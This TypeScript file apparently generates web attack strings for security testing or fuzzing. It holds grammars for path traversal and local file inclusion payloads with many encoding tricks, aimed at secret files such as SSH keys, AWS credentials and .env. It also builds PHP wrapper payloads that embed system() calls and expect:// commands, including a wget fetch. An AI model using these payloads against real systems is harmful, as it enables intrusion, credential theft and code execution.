/** Path traversal, local file inclusion, PHP stream wrappers. */

import { grammar, lines, words } from "../lib/grammar.ts";
import { LEXICON } from "../lib/lexicon.ts";
import type { Random } from "../lib/random.ts";

/** How "../" is spelt; one spelling is kept through a whole payload. */
const DOT_DOTS = lines`
  ../
  ../
  ../
  ..\
  ..\
  ..%2f
  ..%2F
  %2e%2e/
  %2e%2e%2f
  %2E%2E%2F
  .%2e/
  %2e./
  ..%5c
  %2e%2e%5c
  %2e%2e\
  ..%255c
  ..%255c..%255c
  ..%252f
  %252e%252e%252f
  %252e%252e/
  %%32%65%%32%65/
  ..%c0%af
  %c0%ae%c0%ae/
  %c0%ae%c0%ae%c0%af
  ..%c1%9c
  ..%c1%af
  ..%c1%8s
  ..%c1%pc
  ..%c0%9v
  ..%c0%qf
  ..%e0%80%af
  ..%f0%80%80%af
  ..%f8%80%80%80%af
  %uff0e%uff0e%u2215
  %u002e%u002e%u2215
  ..%u2215
  ..%u2216
  ..%uEFC8
  ..%uF025
  ..%bg%qf
  ....//
  ....\/
  ....\\
  .../.../
  ...//
  ..../
  ..//
  ..///
  ..\/
  ..\\
  ./../
  ..;/
  .;/..;/
  /..;/
  ..%00/
  ..%0d/
  ..%09/
  ..%5c..%2f
  ..././
  ...\.\
  ..%2f/
  .%00./
  %c0.%c0./
  ／..
  ..／
  ..∕
  %%35%63..
  .+./
  ..?/
  ..0x2f
  0x2e0x2e0x2f
  0x2e0x2e/
  /%5c..
  /.../
  /./.././`;

/** Not a plain repetition: traversals below a directory that exists, mixed slashes, absolute names. */
const RULES = grammar({
  ...LEXICON,
  start: [
    ["«climb»«unixfile»«end»", 5],
    ["«climb»«winfile»«end»", 3],
    ["«prefix»«climb»«file»«end»", 4],
    ["«unixfile»«end»", 4],
    ["«winabsolute»«end»", 2],
    ["«wrapper»", 4],
    ["«climb»«target»«end»", 3],
    ["«climb»", 1],
    ["«fileurl»", 1],
    ["«expect»", 1],
  ],
  climb: climb,
  file: ["«unixfile»", "«winfile»", "«target»"],
  target: lines`
    «homefile»
    «homefile»
    .«env|htaccess|htpasswd|git/config|git/HEAD|svn/entries|DS_Store|bashrc|ssh/id_rsa|aws/credentials|npmrc|docker/config.json|vscode/settings.json|idea/workspace.xml|user.ini|well-known/«rnd»»
    «proc/self/environ|WEB-INF/|META-INF/|wp-config.php|web.config|global.asa|config.inc.php|schema.sql|database.yml|settings.local.php|parameters.yml|gruntfile.js|composer.lock|yarn.lock|package-lock.json|Dockerfile|docker-compose.yml»
    «webfile»
    «webfile»
    «rnd».«ext»
    «noun»/«rnd».«ext»
    WEB-INF/«web.xml|classes/«Rnd».class|applicationContext.xml|struts-config.xml|spring/applicationContext.xml»
    META-INF/«MANIFEST.MF|context.xml|maven/pom.xml»
    «noun»«bak|»`,
  bak: words`.bak .old ~ .swp .inc .save`,
  end: [
    "«»",
    "«»",
    "«»",
    "«»",
    "«»",
    "«nullend»",
    "«?x=|#|;|?|%3f|%23|/.|//|%20|::$DATA|:$DATA|.....|%5c».«ext»",
  ],
  nullend: [
    "%00",
    "%00.«ext»",
    "%2500",
    "%2500.«ext»",
    "\u0000",
    "\u0000.«ext»",
    "%00index.html",
    "%0a",
    "%00/",
    "\\0",
  ],
  prefix: lines`
    /
    //
    ./
    .//
    «noun»/
    /«noun»/
    /var/www/«html|images|uploads|site|files»/
    images/
    /images/
    /static/
    /assets/
    /public/
    /home/«unixuser»/
    /usr/share/
    «rnd»/
    /«rnd»/«rnd»/
    C:\
    /cgi-bin/
    file/
    «rnd».«ext»/
    /%5c
    \
    \\
    php://
    /.
    «int»/`,
  winabsolute: lines`
    «drive»«winfile»
    «drive»«winfile»
    \\«host»\«share|c$|admin$|ipc$|«rnd»»\«rnd».«ext»
    //«host»/«share|«rnd»»/«rnd».«ext»
    \\localhost\«c$|admin$»\«winfile»
    \\?\C:\«winfile»
    \\.\«C:|pipe\«rnd»»
    %SYSTEMROOT%\«win.ini|system32\cmd.exe|repair\sam»
    %WINDIR%\«win.ini|system32\drivers\etc\hosts»
    %«USERPROFILE|APPDATA|TEMP|PROGRAMFILES»%\«rnd».«ext»`,
  wrapper: lines`
    php://filter/«filter»resource=«resource»
    php://filter/«filter»resource=«resource»
    php://filter/«filter»resource=«resource»
    php://«input|stdin|output|memory|temp|temp/maxmemory:«int»|fd/«small»|stdout»
    PHP://«Filter|FILTER|INPUT|Input»«|/convert.base64-encode/resource=«resource»»
    data://text/plain«|;base64»,«phpcode»
    data:«text/plain|text/html|image/gif|application/x-httpd-php»«;base64|»,«phpcode»
    data:;base64,«base64»
    expect://«id|ls|whoami|uname -a|cat /etc/passwd|wget «url»»
    zip://«path».«zip|jpg|png»#«rnd»«.php|»
    zip://«path».zip%23«rnd»
    phar://«path».«phar|jpg|png|gif|zip»«/«rnd».«php|txt»|»
    compress.«zlib|bzip2»://«file://|»«path»«.gz|»
    glob://«/var/www/|/etc/|»*«.php|»
    ssh2.«exec|sftp|shell|tunnel»://«rnd»:«rnd»@«host»«:22|»/«rnd»
    ogg://«url»
    rar://«path».rar#«rnd»
    file://«|localhost|127.0.0.1»«unixfile»
    netdoc://«unixfile»
    jar:«http|https|file»://«host»/«rnd».jar!/«rnd».«class|xml|txt»
    gopher://«host»/_«rnd»
    expect://«rnd»
    zlib:«unixfile»`,
  phpcode: [
    "<?php «system|exec|passthru|shell_exec»('«id|ls|whoami»');?>",
    "<?php phpinfo();?>",
    "«base64»",
    "PD9waHAg«base64»",
    "<?=`$_GET[«digit»]`?>",
  ],
  filter: lines`
    «read=|write=||convert.base64-encode|»«coder»/
    «read=|»«coder»|«coder»/
    «read=|»«coder»/«coder»/«coder»/
    read=«coder»/
    «»`,
  coder: lines`
    convert.base64-encode
    convert.base64-encode
    convert.base64-decode
    string.rot13
    string.toupper
    string.tolower
    string.strip_tags
    convert.quoted-printable-encode
    zlib.deflate
    zlib.inflate
    convert.iconv.«charset».«charset»
    convert.iconv.«charset».«charset»`,
  charset: words`UTF8 UTF7 UTF-16 UTF-16LE UCS-2LE UCS-4LE UTF16 ISO2022KR CP1252 L1 L4 L6 IBM860 JS MAC SJIS BIG5 CSISO2022KR 866 WINDOWS-1258`,
  resource: [
    "«webfile»",
    "«unixfile»",
    "«rnd»",
    "«rnd».php",
    "../«webfile»",
    "../../«webfile»",
    "«noun».php",
    "«url»",
    "data://,«rnd»",
  ],
  path: ["/tmp/«rnd»", "./«rnd»", "uploads/«rnd»", "/var/www/html/«rnd»", "«rnd»", "../«rnd»"],
  fileurl: [
    "file:///«letter»:/«winfile»",
    "file://«unixfile»",
    "file:«unixfile»",
    "file:/«unixfile»",
    "file:///«unixfile»",
    "local_file://«unixfile»",
    "FILE://«unixfile»",
  ],
  expect: [
    "../..",
    "../../",
    "..\\..\\",
    "/..",
    "/../../../",
    "..%00",
    "/%2e%2e",
    "..;/..;/",
    "..;/«manager/html|«noun»»",
    "/./././«unixetc»",
    "/etc//passwd",
    "/etc/./passwd",
    "/etc/%s",
    "///etc///«unixetc»",
    "/%65%74%63/«unixetc»",
    "\\..\\..\\",
    "/..%2f..%2f",
    "//etc/passwd",
    "/???/??ss??",
  ],
});

function climb(rng: Random): string {
  const step = rng.pick(DOT_DOTS);
  let text = rng.chance(0.25) ? rng.pick(["/", "\\", "./", ".\\", "//", "%2f", "%5c"]) : "";
  const count = rng.chance(0.85) ? rng.int(1, 9) : rng.int(10, 24);
  for (let i = 0; i < count; i++) text += step;
  return text;
}

/** A traversal, an absolute system file, or a PHP wrapper. */
export function traversal(rng: Random): string {
  const text = RULES(rng);
  // A climb ends in a slash and an absolute file begins with one; attackers write both "..//etc" and "../etc".
  return rng.chance(0.8)
    ? text.replace(/([.%\w])([/\\])\/(?=etc|proc|var|home|root|usr|opt|bin|dev|tmp)/g, "$1$2")
    : text;
}
